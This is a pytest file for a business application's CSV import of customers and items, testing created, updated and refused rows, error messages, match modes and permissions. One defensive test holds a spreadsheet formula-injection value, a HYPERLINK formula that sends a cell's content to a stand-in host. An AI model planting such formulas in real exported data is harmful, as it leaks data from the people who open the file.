"""Staged rows become records: what is created, updated, unchanged or refused, and counts that always add up."""

from __future__ import annotations

import threading
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from desktop.imports import processing
from desktop.sessions import permissions
from models.company import User
from models.customer import Customer
from models.database import connected, database
from models.errors import BackdeskError, RightMissingError
from models.import_rows import record_detail
from models.integration_record import ImportRun, RunState
from models.item import Item
from models.lookups import Country
from models.permission_edit import assign
from models.permissions import Permission, PermissionSet
from models.record_edit import save_field

HEADER = "No.,Name,City,Country/Region Code,Credit Limit (LCY)\n"


def customer(no: str) -> Customer:
    with connected():
        found: Customer = Customer.get_by_id(no)
    return found


def test_a_file_of_customers_becomes_customers(importer: Any, write: Any, add_up: Any) -> None:
    run_id = importer.read(write(HEADER + "c1,Müller & Söhne,Kiel,DE,1500.50\nC2,Smith,,,\n"))
    assert importer.process(run_id).text == "2 records created"
    counts = add_up(run_id)
    assert (counts.rows, counts.created, counts.state) == (2, 2, RunState.COMPLETED)
    first = customer("C1")
    assert (first.name, first.city, first.country_code) == ("Müller & Söhne", "Kiel", "DE")
    assert first.credit_limit == Decimal("1500.50")
    assert first.search_text == " c1 müller & söhne kiel"
    assert first.modified_at is not None
    assert customer("C2").country_code is None


def test_the_same_file_again_changes_nothing(importer: Any, write: Any, query: Any) -> None:
    path = write(HEADER + "C1,Miller,Kiel,DE,10\nC2,Smith,Ulm,DE,\n")
    importer(path)
    before = query("SELECT * FROM customer ORDER BY no")
    counts = importer(path)
    assert (counts.created, counts.updated, counts.unchanged) == (0, 0, 2)
    assert query("SELECT * FROM customer ORDER BY no") == before


def test_a_changed_row_updates_its_record_and_nothing_that_the_file_does_not_have(
    importer: Any, write: Any
) -> None:
    importer(write(HEADER + "C1,Miller,Kiel,DE,10\n"))
    save_field(Customer, "C1", "contact", "Ms. Miller", "")
    counts = importer(write("No.,Name,City\nC1,Miller,Lübeck\n"))
    assert counts.updated == 1
    found = customer("C1")
    assert (found.city, found.contact, found.country_code) == ("Lübeck", "Ms. Miller", "DE")
    assert found.search_text == " c1 miller lübeck ms. miller"


def test_all_that_is_wrong_with_a_row_is_told_at_once(importer: Any, write: Any, add_up: Any) -> None:
    run_id = importer.read(
        write(HEADER + f"C1,,Kiel,XX,1e\n{'C' * 21},{'n' * 101},,,-1\n,Smith,,,\nC4,Good,,,\n")
    )
    counts = importer.process(run_id)
    assert counts.text == "1 record created, 3 errors"
    assert importer.errors(run_id) == [
        (2, "Name", "Required", "", "Name is empty."),
        (2, "Country/Region Code", "NotFound", "XX", "There is no Country/Region “XX”."),
        (2, "Credit Limit (LCY)", "NotANumber", "1e", "“1e” is not a number."),
        (3, "No.", "TooLong", "C" * 21, "No. has 21 characters; at most 20 fit."),
        (3, "Name", "TooLong", "n" * 101, "Name has 101 characters; at most 100 fit."),
        (3, "Credit Limit (LCY)", "TooSmall", "-1", "Credit Limit (LCY) must be at least 0, but is -1.0."),
        (4, "No.", "Required", "", "No. is empty."),
    ]
    add_up(run_id)
    with connected():
        row = record_detail(importer.record_ids(run_id)[0])
    assert row is not None
    hint = "Create it or correct the column Country/Region Code, then choose Retry."
    assert (row.errors[1].message, row.errors[1].hint) == ("There is no Country/Region “XX”.", hint)


def test_the_northwind_customers(importer: Any, shared_file: Callable[[str], Path], add_up: Any) -> None:
    run_id = importer.read(shared_file("northwind/customers.csv"), "NORTHWIND-CUSTOMERS")
    assert importer.process(run_id).text == "67 records created, 24 errors"
    assert set(importer.errors(run_id)) == {
        (line, "", "WrongCellCount", "12", message)
        for line, *_, message in importer.errors(run_id)
        if "12 cells, the header has 11: probably a comma" in message
    }
    assert importer.codes(run_id)[0] == (8, "WrongCellCount")
    assert customer("ALFKI").county == ""
    assert customer("ALFKI").post_code == "12209"
    assert customer("ANATR").post_code == "05021"
    add_up(run_id)


def test_texts_that_look_like_formulas_stay_texts(
    importer: Any, shared_file: Callable[[str], Path], integration: Any
) -> None:
    code = integration(("External ID", "no"), ("Name", "name"), ("Note", "contact"))
    assert importer(shared_file("delimited/formula_injection.csv"), code).created == 6
    assert customer("C1").name == '=HYPERLINK("http://x.test?d="&A1,"click")'
    assert customer("C3").name == "-2+3"
    assert customer("C6").name == "＝1+1"


def test_a_key_that_comes_twice_in_a_file_is_an_error_of_the_second(
    importer: Any, write: Any, monkeypatch: pytest.MonkeyPatch, add_up: Any
) -> None:
    monkeypatch.setattr(processing, "FIRST_CHUNK", 2)
    monkeypatch.setattr(processing, "LARGEST_CHUNK", 2)
    monkeypatch.setattr(processing, "SMALLEST_CHUNK", 2)
    run_id = importer.read(write("No.,Name\nC1,A\nc1,B\nC2,C\nC3,D\nC1,E\n"))
    assert importer.process(run_id).created == 3
    assert [(line, code, message) for line, _, code, _, message in importer.errors(run_id)] == [
        (3, "DuplicateKey", "Row 2 of the file has the same No. “C1” already."),
        (6, "DuplicateKey", "Row 2 of the file has the same No. “C1” already."),
    ]
    assert customer("C1").name == "A"
    add_up(run_id)


def test_create_only_and_update_only_refuse_the_other(importer: Any, write: Any, integration: Any) -> None:
    importer(write("No.,Name\nC1,A\n"))
    path = write("No.,Name\nC1,B\nC2,B\n", "more.csv")
    create = integration(("No.", "no"), ("Name", "name"), code="CREATE", match_mode="Create Only")
    run_id = importer.read(path, create)
    assert importer.process(run_id).created == 1
    assert importer.codes(run_id) == [(2, "Exists")]
    update = integration(("No.", "no"), ("Name", "name"), code="UPDATE", match_mode="Update Only")
    run_id = importer.read(write("No.,Name\nC1,B\nC3,B\n", "other.csv"), update)
    assert importer.process(run_id).updated == 1
    assert importer.codes(run_id) == [(3, "NotFound")]


def test_records_are_found_by_another_field_than_their_key(
    importer: Any, write: Any, integration: Any
) -> None:
    importer(write("No.,Name,E-Mail\nC1,A,a@x.test\nC2,B,b@x.test\nC3,C,b@x.test\n"))
    code = integration(("Mail", "email"), ("City", "city"), match_field="email", match_mode="Update Only")
    run_id = importer.read(
        write("Mail,City\na@x.test,Kiel\nb@x.test,Ulm\n,Bonn\nz@x.test,Jena\n", "m.csv"), code
    )
    assert importer.process(run_id).updated == 1
    assert importer.codes(run_id) == [(3, "Ambiguous"), (4, "Required"), (5, "NotFound")]
    assert customer("C1").city == "Kiel"


def test_constants_defaults_and_value_maps(importer: Any, write: Any, integration: Any) -> None:
    from models.integration import IntegrationValueMap

    code = integration(
        ("Id", "no"),
        ("Who", "name"),
        {"source_column": "Land", "target_field": "country_code", "lookup_by": "name", "default_value": "DE"},
        {"source_column": "Where", "target_field": "city", "default_value": "unknown"},
        {"target_field": "currency_code", "constant": "eur"},
        null_text="-",
    )
    with connected():
        IntegrationValueMap.create(
            integration_code=code, target_field="country_code", external_value="UK", internal_value="GB"
        )
    assert (
        importer(write("Id,Who,Land,Where\n1,A,uk,-\n2,B,france,Lyon\n3,C,-,\n4,D,US,Nome\n"), code).created
        == 4
    )
    assert [customer(no).country_code for no in "1234"] == ["GB", "FR", "DE", "US"]
    assert [customer(no).city for no in "1234"] == ["unknown", "Lyon", "unknown", "Nome"]
    assert customer("1").currency_code == "EUR"


def test_items_with_numbers_dates_and_yes_no_in_their_own_notation(
    importer: Any, write: Any, integration: Any
) -> None:
    code = integration(
        ("Nr", "no"), ("Text", "description"), ("Preis", "unit_price"), ("Gesperrt", "blocked"),
        target_table="item", decimal_separator=",",
    )  # fmt: skip
    run_id = importer.read(
        write("Nr;Text;Preis;Gesperrt\n01;Rope;1.234,5;yes\n02;Net;1,234.5;no\n03;Buoy;;perhaps\n"), code
    )
    assert importer.process(run_id).created == 1
    assert importer.codes(run_id) == [(3, "NotANumber"), (4, "NotABoolean")]
    with connected():
        item = Item.get_by_id("01")
    assert (item.unit_price, item.blocked) == (Decimal("1234.5"), True)


def test_a_record_that_the_database_refuses_is_alone_an_error(
    importer: Any, write: Any, query: Any, add_up: Any
) -> None:
    with connected():
        database.execute_sql(
            "CREATE TRIGGER no_seven BEFORE INSERT ON customer WHEN NEW.name = 'Seven'"
            " BEGIN SELECT RAISE(ABORT, 'seven is not wanted'); END"
        )
    lines = [f"C{number},{'Seven' if number in (7, 23) else 'Name'}\n" for number in range(40)]
    run_id = importer.read(write("No.,Name\n" + "".join(lines)))
    assert importer.process(run_id).text == "38 records created, 2 errors"
    assert importer.codes(run_id) == [(9, "Refused"), (25, "Refused")]
    assert query("SELECT COUNT(*) FROM customer") == [(38,)]
    add_up(run_id)


def test_a_look_up_value_made_meanwhile_is_found(
    importer: Any, write: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(processing, "FIRST_CHUNK", 1)
    monkeypatch.setattr(processing, "LARGEST_CHUNK", 1)
    run_id = importer.read(write("No.,Name,Country\nC1,A,ZZ\nC2,B,ZZ\n"))

    def create_country(done: int, _total: int, _text: str) -> None:
        def create() -> None:
            with connected():
                Country(code="ZZ", name="Zedland").save(force_insert=True)

        if done == 1:
            thread = threading.Thread(target=create)
            thread.start()
            thread.join()

    counts = importer.process(run_id, on_progress=create_country)
    assert (counts.errors, counts.created) == (1, 1)
    assert customer("C2").country_code == "ZZ"


def test_just_the_chosen_records_are_processed(importer: Any, write: Any, add_up: Any) -> None:
    run_id = importer.read(write("No.,Name\n" + "".join(f"C{number},N\n" for number in range(9))))
    ids = importer.record_ids(run_id)
    counts = importer.process(run_id, [ids[1], ids[7], ids[7] + 1000])
    assert (counts.created, counts.ready, counts.state) == (2, 7, RunState.READY)
    counts = importer.process(run_id)
    assert (counts.created, counts.ready) == (9, 0)
    add_up(run_id)


def test_an_import_that_is_gone_or_still_read_is_told(importer: Any, write: Any) -> None:
    with pytest.raises(BackdeskError, match="There is no import 99"):
        importer.process(99)
    run_id = importer.read(write("No.,Name\nC1,A\n"))
    with connected():
        ImportRun.update(state=RunState.READING).where(ImportRun.id == run_id).execute()
    with pytest.raises(BackdeskError, match="is still being read"):
        importer.process(run_id)


def test_counts_are_told_while_it_runs(importer: Any, write: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("FIRST_CHUNK", "SMALLEST_CHUNK", "LARGEST_CHUNK"):
        monkeypatch.setattr(processing, name, 2)
    told: list[tuple[int, int, str]] = []
    run_id = importer.read(write("No.,Name\nC1,A\nC2,B\nC3,C\n"))
    importer.process(run_id, on_progress=lambda *values: told.append(values))
    assert told == [(2, 3, "Importing customers.csv"), (3, 3, "Importing customers.csv")]


def test_who_may_write_customers_imports_them_without_a_right_to_the_orders_that_name_them(
    importer: Any, write: Any
) -> None:
    with connected():
        Customer.create(no="C2", name="Smith")
        User(user_id="LEA").save(force_insert=True)
        assign("ANNA", "SUPER")
        PermissionSet.create(code="CUSTOMERS ONLY")
        for table, writes in (("customer", True), ("country", False), ("payment_terms", False)):
            Permission.create(
                set_code="CUSTOMERS ONLY",
                object_name=table,
                may_read=True,
                may_insert=writes,
                may_modify=writes,
            )
        assign("LEA", "CUSTOMERS ONLY")
    run_id = importer.read(write("No.,Name\nC1,A\nC2,B\nC3,C\n"))
    with permissions.enforced("LEA"):
        assert importer.process(run_id).text == "2 records created, 1 record updated"
    with connected():
        Permission.update(may_insert=False).execute()
    run_id = importer.read(write("No.,Name\nC4,D\n"))
    with permissions.enforced("LEA"), pytest.raises(RightMissingError, match="Customer: Insert"):
        importer.process(run_id)


def test_a_number_that_another_record_has_is_told_in_plain_words(
    importer: Any, write: Any, integration: Any, add_up: Any
) -> None:
    code = integration(
        ("ID", "no"),
        ("Price", "unit_price"),
        ("Text", "description"),
        target_table="item",
        match_field="unit_price",
    )
    run_id = importer(write("ID,Price,Text\nI1,7,A\nI1,8.50,B\nI3,7.0,C\n"), code).run_id
    assert [(line, code, text) for line, _, code, _, text in importer.errors(run_id)] == [
        (3, "Exists", "There is another Item with this No. already."),
        (4, "DuplicateKey", "Row 2 of the file has the same Unit Price “7” already."),
    ]
    add_up(run_id)
